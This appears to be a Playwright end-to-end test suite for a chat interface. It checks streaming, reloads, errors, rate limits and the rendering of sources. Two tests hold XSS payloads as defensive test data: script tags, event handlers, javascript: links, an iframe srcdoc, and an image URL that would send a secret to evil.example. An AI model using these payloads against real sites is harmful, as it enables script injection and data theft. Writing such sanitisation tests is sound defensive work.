import { look } from "./look";
import { answered, answers, ask, chooseModel, composer, expect, questions, signUp, test } from "./people";

test.beforeEach(async ({ page }) => {
  await signUp(page);
});

test("stop keeps what is there, regenerate makes another answer", async ({ page }) => {
  await chooseModel(page, "slow:test");
  await ask(page, "Count to a hundred");
  await expect(answers(page).last()).toContainText("word5");
  await page.getByRole("button", { name: "Stop" }).click();

  await expect(answers(page).last()).toHaveAttribute("data-status", "stopped");
  await expect(answers(page).last()).toContainText("Stopped");
  await page.reload();
  await expect(answers(page).last()).toContainText("word5");
  await expect(answers(page).last()).toHaveAttribute("data-status", "stopped");

  await chooseModel(page, "echo:test");
  await answers(page).last().getByRole("button", { name: "Regenerate" }).click();
  await answered(page);
  await expect(answers(page)).toHaveCount(1);
  await expect(answers(page).last().locator(".prose-chat")).toHaveText("Count to a hundred");
});

test("a reload in the middle of an answer picks it up again", async ({ page }) => {
  await chooseModel(page, "slow:test");
  await ask(page, "Keep counting");
  await expect(answers(page).last()).toContainText("word3");

  await page.reload();

  await expect(answers(page).last()).toHaveAttribute("data-status", "running");
  await expect(answers(page).last()).toContainText("word1 word2 word3");
  await expect(page.getByRole("button", { name: "Stop" })).toBeVisible();
  await expect(answers(page).last()).toContainText("word40 ", { timeout: 15_000 });
  const text = await answers(page).last().locator(".prose-chat").innerText();
  const seen = text.trim().split(/\s+/);
  expect(seen).toEqual(seen.map((_, index) => `word${index + 1}`));
});

test("leaving and coming back does not stop an answer", async ({ page }) => {
  await chooseModel(page, "slow:test");
  await ask(page, "Count on without me");
  await expect(answers(page).last()).toContainText("word2");
  const address = page.url();

  await page.keyboard.press("Control+Shift+O");
  await expect(page.getByText("What is on your mind?")).toBeVisible();
  await expect(page.getByRole("img", { name: "Answering" })).toBeVisible();
  await page.goto(address);

  await expect(answers(page).last()).toContainText("word20", { timeout: 15_000 });
  await page.keyboard.press("Escape");
  await expect(answers(page).last()).toHaveAttribute("data-status", "stopped");
});

test("a failing engine is told where it happened, and trying again works", async ({ page }) => {
  await chooseModel(page, "flaky:test");
  await ask(page, `Fail once ${Date.now()}`);

  const alert = answers(page).last().getByRole("alert");
  await expect(alert).toBeVisible();
  await expect(answers(page).last()).toContainText("It begins");
  await alert.getByRole("button", { name: "Try again" }).click();

  await answered(page);
  await expect(answers(page).last()).toContainText("It works again.");
});

test("a question that cannot be sent is kept, and can be sent or edited", async ({ page, context }) => {
  await chooseModel(page, "echo:test");
  await ask(page, "First");
  await answered(page);
  await composer(page).fill("Do not lose this");
  await context.setOffline(true);
  await composer(page).press("Enter");

  const unsent = questions(page).last();
  await expect(unsent).toHaveAttribute("data-status", "unsent");
  await expect(page.getByRole("alert").filter({ hasText: "cannot be reached" }).first()).toBeVisible();
  await context.setOffline(false);
  await page.reload();
  await expect(unsent).toContainText("Do not lose this");
  await unsent.getByRole("button", { name: "Try again" }).click();

  await answered(page);
  await expect(answers(page).last().locator(".prose-chat")).toHaveText("Do not lose this");
  await expect(questions(page)).toHaveCount(2);
});

test("a rate limit counts down, keeps the question and lets it go on", async ({ page }) => {
  await chooseModel(page, "echo:test");
  await ask(page, "Before");
  await answered(page);
  let refused = 0;
  await page.route("**/messages", async (route) => {
    if (route.request().method() !== "POST" || refused++ > 0) return route.fallback();
    return route.fulfill({
      status: 429,
      contentType: "application/problem+json",
      headers: { "retry-after": "3" },
      body: JSON.stringify({ status: 429, code: "rate-limited", detail: "Too many requests. Wait a moment." }),
    });
  });

  await ask(page, "After the limit");
  const alert = questions(page).last().getByRole("alert");
  await expect(alert).toContainText("Too many requests");
  await expect(alert.getByRole("button", { name: /Try again in \d s/ })).toBeDisabled();
  await alert.getByRole("button", { name: "Try again", exact: true }).click();

  await answered(page);
  await expect(answers(page).last().locator(".prose-chat")).toHaveText("After the limit");
});

test("thinking is folded, code is coloured and copied, figures are there for who asks", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await chooseModel(page, "showcase:test");
  await ask(page, "Show everything");
  await answered(page);
  const answer = answers(page).last();

  const thinking = answer.locator("summary", { hasText: /^Thought for \d/ });
  await expect(answer.getByText("First the memory")).toBeHidden();
  await thinking.click();
  await expect(answer.getByText("First the memory")).toBeVisible();
  await expect(answer.locator(".katex-display")).toHaveCount(1);
  await expect(answer.locator(".shiki-line").first()).toBeAttached();
  const colours = await answer
    .locator(".shiki-line span")
    .evaluateAll((spans) => new Set(spans.map((span) => getComputedStyle(span).color)).size);
  expect(colours).toBeGreaterThan(2);

  await answer.getByRole("button", { name: "Copy code" }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain(
    "nodes.OrderBy(node => node.Load).First()",
  );
  await answer.getByRole("button", { name: "Copy answer" }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain("| Node | Load | Free memory |");
  await answer.getByRole("button", { name: "Figures" }).click();
  await expect(page.getByRole("dialog", { name: "Figures of this answer" })).toContainText("tokens/s");

  const said = await thinking.textContent();
  await page.reload();
  await expect(
    answers(page)
      .last()
      .locator("summary", { hasText: /^Thought for \d/ }),
  ).toHaveText(said ?? "");
});

test("what a model says is never run and nothing is fetched for it", async ({ page }) => {
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).host !== new URL(page.url()).host) foreign.push(request.url());
  });
  await chooseModel(page, "echo:test");
  await ask(
    page,
    [
      "<script>window.pwned=1</script><img src=x onerror='window.pwned=2'><svg onload='window.pwned=3'>",
      "[link](javascript:window.pwned=4) ![pixel](https://evil.example/?q=secret)",
      '<iframe srcdoc="<script>parent.pwned=5</script>"></iframe><style>body{display:none}</style>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example"> $\\href{javascript:window.pwned=6}{x}$',
    ].join("\n\n"),
  );
  await answered(page);
  await page.waitForTimeout(500);

  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
  expect(foreign).toEqual([]);
  const inside = answers(page).last().locator("img,script,iframe,style,meta,a[href^='javascript']");
  await expect(inside).toHaveCount(0);
  await expect(answers(page).last()).toContainText("<script>window.pwned=1</script>");
  await expect(answers(page).last().getByRole("link", { name: "pixel" })).toHaveAttribute("rel", /noopener/);
});

test("sources stand below the answer, and a marker in the text leads to its own", async ({ page }) => {
  const source = (number: number, url: string, title?: string) => ({
    type: "source-url",
    sourceId: `${number}`,
    url,
    title,
  });
  await chooseModel(page, "echo:test");
  await ask(page, "Lisbon [1], says another [7], and a third [9].");
  await answered(page);
  // As if the engine had searched.
  await page.route(/\/messages\?/, async (route) => {
    const response = await route.fetch();
    const found = await response.json();
    found.items[1].parts.push(
      source(1, "https://a.example/lisbon", "Lisbon, as it was"),
      ...[2, 3, 4, 5, 6].map((number) => source(number, `https://b.example/${number}`)),
      source(7, "https://c.example/", `\u202e<img src=x onerror=alert(1)> ${"long ".repeat(40)}`),
      source(8, "javascript:alert(1)", "click me"),
    );
    await route.fulfill({ response, json: found });
  });
  const strangers: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes(".example")) strangers.push(request.url());
  });
  await page.reload();

  const sources = answers(page).last().getByRole("region", { name: "Sources" });
  await expect(sources.getByRole("listitem")).toHaveCount(5);
  await expect(sources.getByText("2 more")).toBeVisible();
  await expect(answers(page).last().locator(".prose-chat a")).toHaveText(["[1]", "[7]"]);
  await answers(page).last().getByRole("link", { name: "[7]" }).click();

  await expect(sources.getByRole("listitem")).toHaveCount(7);
  await expect(sources.getByRole("link", { name: "long long" })).toBeFocused();
  expect(strangers).toEqual([]);
  await look(page, "sources");
});
